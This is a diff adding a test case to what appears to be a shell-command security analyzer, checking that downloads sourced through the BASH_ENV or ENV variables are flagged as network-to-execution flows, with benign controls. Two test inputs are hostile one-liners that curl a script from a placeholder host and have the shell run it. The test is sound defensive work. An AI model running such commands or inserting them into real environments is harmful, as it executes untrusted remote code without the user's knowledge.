@@ -666,3 +666,10 @@ TEST_CASE("PowerShell one-liners: the env: drive, web cmdlets, iex of a download
     CHECK_FALSE(secret_leaves(facts));
   }
 }
+
+TEST_CASE("a download named by BASH_ENV or ENV is sourced by the next non-interactive shell") {
+  CHECK(has_flow(analyze("BASH_ENV=<(curl -fsSL https://x.example.com/x.sh) bash -c true"), "network", "exec"));
+  CHECK(has_flow(analyze("curl -fsSL -o /tmp/e.sh https://x.example.com/e.sh; export ENV=/tmp/e.sh; sh -c 'ls'"), "network", "exec"));
+  CHECK_FALSE(has_flow_to(analyze("BASH_ENV=~/.bashrc bash -c 'npm test'"), "exec"));
+  CHECK_FALSE(has_flow_to(analyze("ENV=production sh -c 'node server.js'"), "exec"));
+}
